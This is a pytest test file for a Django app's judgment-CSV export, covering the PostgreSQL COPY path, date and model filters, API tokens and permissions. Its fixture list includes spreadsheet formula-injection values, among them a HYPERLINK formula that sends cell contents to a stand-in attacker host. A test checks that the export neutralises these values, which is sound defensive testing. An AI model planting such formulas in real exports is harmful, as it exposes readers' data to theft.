"""The judgments' export written by PostgreSQL's COPY, and the filtered (incremental, per model) export on both databases.

On PostgreSQL the whole-campaign judgments.csv comes from `COPY … TO STDOUT`: its bytes must be
those of the Python path (itself tested against the csv module), for formula triggers, quotes,
line breaks, empty rationales, whole-second and fractional times, a missing time, and expert
names whose order differs between a locale's collation and code points. The filters (`since`,
`until`, `model`) keep exactly the judgments they name, on the page's export and the API's, with
the same rules: admins only, API tokens accepted, each response shown recorded.
"""

import csv
import datetime as dt
import io

import pytest
from django.urls import reverse

from annotation.models import Assignment, CampaignResponse, Judgment
from heartbench_core.csvsafe import safe_cell
from heartbench_core.models import StaffExposure
from heartbench_core.roles import Role
from heartbench_core.services.api_tokens import issue_token
from tests.conftest import make_user, postgres_only
from tests.factories import demo_responses, demo_version
from tests.validation.builders import MODELS, as_file, judgment_lines
from validation import exports
from validation.exports import JudgmentFilter
from validation.services.imports import import_judgments

AWKWARD = (
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\tleading tab",
    "\rleading return",
    "a, comma",
    'a "quoted" word',
    "two\nlines",
    "windows\r\nline",
    "",
    "   ",
    "中文理由，带逗号",
    "back\\slash",
    "'already quoted",
    "\\.",
    "ends with a line break\n",
)
DAY_1 = dt.datetime(2026, 1, 1, 0, 0, 0, tzinfo=dt.UTC)
DAY_2 = dt.datetime(2026, 1, 2, 12, 0, 0, 500_000, tzinfo=dt.UTC)
DAY_3 = dt.datetime(2026, 1, 3, 23, 59, 59, 999_999, tzinfo=dt.UTC)


@pytest.fixture
def campaign(cast):
    demo_version()
    demo_responses()
    # Code-point order (Python's sort) puts "Zoe" before "_x" before "erin"; a locale's collation would not.
    odd = [make_user("Zoe_Expert", Role.EXPERT), make_user("_x_expert", Role.EXPERT)]
    lines = judgment_lines([e.username for e in [*cast.experts, *odd]])
    for i, line in enumerate(lines[:12]):
        line["reasons"] = [AWKWARD[(i + j) % len(AWKWARD)] for j in range(len(line["reasons"]))]
    campaign = import_judgments(source=as_file(lines), dataset_name="demo", campaign_name="blind-1").campaign
    # A third of the assignments on each of three days (whole second, half a second, the last microsecond), one without a time.
    ids = list(Assignment.objects.filter(campaign_response__campaign=campaign).order_by("pk").values_list("pk", flat=True))
    third = len(ids) // 3
    Assignment.objects.filter(pk__in=ids[:third]).update(submitted_at=DAY_1)
    Assignment.objects.filter(pk__in=ids[third : 2 * third]).update(submitted_at=DAY_2)
    Assignment.objects.filter(pk__in=ids[2 * third :]).update(submitted_at=DAY_3)
    Assignment.objects.filter(pk=ids[-1]).update(submitted_at=None)
    return campaign


def body(response) -> str:
    return b"".join(bytes(p) for p in response.streaming_content).decode("utf-8")


def rows_of(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


FILTERS = [
    JudgmentFilter(),
    JudgmentFilter(since=DAY_2),
    JudgmentFilter(until=DAY_2),
    JudgmentFilter(since=DAY_2, until=DAY_3),
    JudgmentFilter(models=(MODELS[1],)),
    JudgmentFilter(since=DAY_2, models=(MODELS[0], MODELS[2])),
]


# --- PostgreSQL: COPY writes the same bytes -------------------------------------------------------------


@postgres_only()
@pytest.mark.parametrize("only", FILTERS, ids=lambda f: repr(f))
def test_copy_writes_the_bytes_of_the_python_path(campaign, only):
    copied = exports.copied_judgment_csv_text(campaign, only)
    assert copied == exports.judgment_csv(campaign, only) == exports.python_judgment_csv(campaign, only)
    assert copied.count("\r\n") > 1


@postgres_only()
@pytest.mark.parametrize("size", [2, 2000])
def test_a_range_read_by_copy_leaves_out_the_entries_its_batch_left_out(campaign, size):
    """COPY reads ranges of entry ids: an entry inside a range that the batches leave out (hidden) stays out, as on the Python path."""
    entries = list(CampaignResponse.objects.filter(campaign=campaign).order_by("pk").values_list("pk", flat=True))
    hidden = set(entries[1::3])
    copied = b"".join(exports.copied_judgment_csv(campaign, exports.entry_ranges(campaign, hidden, size=size))).decode()
    python = "".join(exports._judgment_csv_lines(campaign, exports.entry_batches(campaign, hidden)))
    assert copied == python
    assert 1 < copied.count("\r\n") < exports.judgment_csv(campaign).count("\r\n")


@postgres_only()
def test_the_page_s_export_on_postgresql_is_the_copy_in_chunks(cast, client_for, campaign, monkeypatch):
    whole = exports.python_judgment_csv(campaign)
    monkeypatch.setattr(exports, "COPY_ENTRIES_PER_BATCH", 2)
    monkeypatch.setattr(exports, "CHUNK_CHARS", 400)
    response = client_for(cast.admin).get(reverse("validation:export", args=[campaign.pk, "judgments", "csv"]))
    pieces = [bytes(p) for p in response.streaming_content]
    assert len(pieces) > 5 and all(len(p) < 400 + 2000 for p in pieces)
    text = b"".join(pieces).decode()
    assert text == whole
    assert {"'" + a for a in AWKWARD if a and a[0] in "=+-@\t\r"} <= {r["rationale"] for r in rows_of(text)}


@postgres_only()
@pytest.mark.django_db(transaction=True)
def test_an_export_cut_short_leaves_the_connection_usable(cast, campaign, monkeypatch):
    """The COPY is cancelled, not read to its end; outside a transaction (as a streamed response runs) the next query works."""
    monkeypatch.setattr(exports, "CHUNK_CHARS", 100)
    chunks = exports.export_chunks(cast.admin, campaign, "judgments", "csv")
    next(chunks), next(chunks), next(chunks)
    chunks.close()  # the client went away in the middle of a COPY
    assert Judgment.objects.count() > 0


# --- both databases: the filters keep what they name -----------------------------------------------------


def expected_keys(campaign, only: JudgmentFilter) -> set[tuple[str, str, str]]:
    judgments = Judgment.objects.filter(assignment__campaign_response__campaign=campaign, assignment__status=Assignment.Status.SUBMITTED)
    if only.since:
        judgments = judgments.filter(assignment__submitted_at__gte=only.since)
    if only.until:
        judgments = judgments.filter(assignment__submitted_at__lt=only.until)
    if only.models:
        judgments = judgments.filter(assignment__campaign_response__response__model__name__in=only.models)
    return {
        # As the file writes them: a public id that happens to begin with "-" or "=" is guarded like any cell.
        (safe_cell(public_id), expert, str(position))
        for public_id, expert, position in judgments.values_list(
            "assignment__campaign_response__response__public_id", "assignment__expert__username", "criterion__position"
        )
    }


def test_each_filter_keeps_exactly_its_judgments(campaign):
    everything = rows_of(exports.judgment_csv(campaign))
    for only in FILTERS:
        rows = rows_of(exports.judgment_csv(campaign, only))
        assert {(r["response"], r["expert"], r["criterion_position"]) for r in rows} == expected_keys(campaign, only)
        assert len(rows) == len(expected_keys(campaign, only))
        assert rows == [r for r in everything if r in rows]  # the whole export's order, its rows unchanged
        if only.models:
            assert {r["model"] for r in rows} == set(only.models)
        if only.since:
            assert all(r["submitted_at"] and dt.datetime.fromisoformat(r["submitted_at"]) >= only.since for r in rows)
    assert len(rows_of(exports.judgment_csv(campaign, JudgmentFilter(since=DAY_2)))) < len(everything)


def test_the_page_takes_the_filters_and_records_only_what_it_showed(cast, client_for, campaign):
    url = reverse("validation:export", args=[campaign.pk, "judgments", "csv"])
    response = client_for(cast.admin).get(url, {"model": MODELS[1], "since": "2026-01-02"})
    assert response.status_code == 200
    only = JudgmentFilter(since=dt.datetime(2026, 1, 2, tzinfo=dt.UTC), models=(MODELS[1],))
    assert body(response) == exports.judgment_csv(campaign, only)
    shown = set(StaffExposure.objects.filter(user=cast.admin).values_list("response__model__name", flat=True))
    assert shown == {MODELS[1]}
    jsonl = client_for(cast.admin).get(reverse("validation:export", args=[campaign.pk, "judgments", "jsonl"]), {"model": MODELS[1]})
    assert jsonl.status_code == 200 and {'"model": "' + MODELS[1] + '"' in line for line in body(jsonl).splitlines()} == {True}


@pytest.mark.parametrize(
    "params, message",
    [
        ({"since": "yesterday"}, "since: not a date"),
        ({"since": "2026-13-01"}, "since: not a date"),
        ({"since": "2026-01-03", "until": "2026-01-02"}, "until must be later than since"),
        ({"model": "no-such-model"}, "no such model: no-such-model"),
    ],
)
def test_a_filter_that_cannot_be_read_is_a_clear_400(cast, client_for, campaign, params, message):
    page = client_for(cast.admin).get(reverse("validation:export", args=[campaign.pk, "judgments", "csv"]), params)
    assert page.status_code == 400 and message in page.content.decode()
    api = client_for(cast.admin).get(f"/api/v1/validation/campaigns/{campaign.pk}/export/judgments.csv", params)
    assert api.status_code == 400 and message in api.json()["detail"]


def test_filters_belong_to_the_judgments_export(cast, client_for, campaign):
    for what in ("golden", "report"):
        response = client_for(cast.admin).get(reverse("validation:export", args=[campaign.pk, what, "csv"]), {"model": MODELS[0]})
        assert response.status_code == 400 and "judgments export only" in response.content.decode()


def test_an_offset_sent_unencoded_still_reads(campaign):
    assert exports.judgment_filter({"since": "2026-01-02T20:00:00 08:00"}).since == dt.datetime(2026, 1, 2, 12, tzinfo=dt.UTC)
    assert exports.judgment_filter({"since": "2026-01-02T12:00:00Z"}).since == dt.datetime(2026, 1, 2, 12, tzinfo=dt.UTC)


def test_the_api_export_takes_a_token_and_the_page_s_rules(cast, client, campaign):
    url = f"/api/v1/validation/campaigns/{campaign.pk}/export/judgments.csv"
    token = issue_token(user=cast.admin, name="nightly").text
    response = client.get(url, {"since": "2026-01-02T12:00:00.5Z"}, HTTP_AUTHORIZATION=f"Token {token}")
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    assert body(response) == exports.judgment_csv(campaign, JudgmentFilter(since=DAY_2))
    # The whole file, through the API, is the page's.
    assert body(client.get(url, HTTP_AUTHORIZATION=f"Token {token}")) == exports.python_judgment_csv(campaign)
    expert_token = issue_token(user=cast.expert, name="mine").text
    assert client.get(url, HTTP_AUTHORIZATION=f"Token {expert_token}").status_code == 403
    assert client.get(url).status_code in (401, 403)
    assert (
        client.get(f"/api/v1/validation/campaigns/{campaign.pk}/export/judgments.xlsx", HTTP_AUTHORIZATION=f"Token {token}").status_code
        == 404
    )
    assert client.get("/api/v1/validation/campaigns/999999/export/judgments.csv", HTTP_AUTHORIZATION=f"Token {token}").status_code == 404


def test_the_schema_types_the_export(cast, client_for):
    schema = client_for(cast.admin).get("/api/schema/", {"format": "json"}).json()
    operation = schema["paths"]["/api/v1/validation/campaigns/{campaign_id}/export/judgments.{fmt}"]["get"]
    names = {p["name"] for p in operation["parameters"]}
    assert {"since", "until", "model", "campaign_id", "fmt"} <= names
    assert {"text/csv", "application/x-ndjson"} <= set(operation["responses"]["200"]["content"])


@pytest.mark.parametrize("only", [{}, {"since": "2026-01-02", "model": MODELS[0]}])
def test_the_export_reads_a_bounded_number_of_queries(cast, client_for, campaign, django_assert_max_num_queries, only):
    client = client_for(cast.admin)
    client.get("/")  # the session and the user are read once, outside the count
    # The session, the user and their roles, the campaign, (the models named), the criteria and the items
    # (in Python), then per batch: its entries, their exposures and the batch's rows; an empty batch ends it.
    with django_assert_max_num_queries(14):
        response = client.get(reverse("validation:export", args=[campaign.pk, "judgments", "csv"]), only)
        assert body(response).count("\r\n") > 1


def test_a_bad_filter_says_why_in_chinese_too(campaign):
    from django.utils import translation

    with translation.override("zh-hans"), pytest.raises(exports.BadFilter, match="没有这个模型：nope"):
        exports.judgment_filter({"model": "nope"})
    with translation.override("zh-hans"), pytest.raises(exports.BadFilter, match="until 必须晚于 since"):
        exports.judgment_filter({"since": "2026-01-02", "until": "2026-01-01"})


@postgres_only()
def test_copy_sorts_each_entrys_rows_never_a_whole_range(campaign):
    """The file's order is the query's ORDER BY, met by sorting one entry's rows at a time (no full sort to spill)."""
    from django.db import connection

    statement, params = exports._copy_statement(campaign, exports.NO_FILTER)
    query = statement.removeprefix("COPY (").removesuffix(") TO STDOUT (FORMAT csv)")
    span = next(iter(exports.entry_ranges(campaign, set(), size=exports.COPY_ENTRIES_PER_BATCH)))
    with connection.cursor() as cursor:
        cursor.execute(exports._COPY_PLAN)
        cursor.execute("EXPLAIN " + query, params(span))
        plan = [row[0].strip() for row in cursor.fetchall()]
    assert plan[0].startswith("Incremental Sort") and any(line.startswith("Presorted Key: e.id") for line in plan), plan
    assert not any(line.removeprefix("->").strip().startswith("Sort  (") for line in plan), plan  # a full sort node
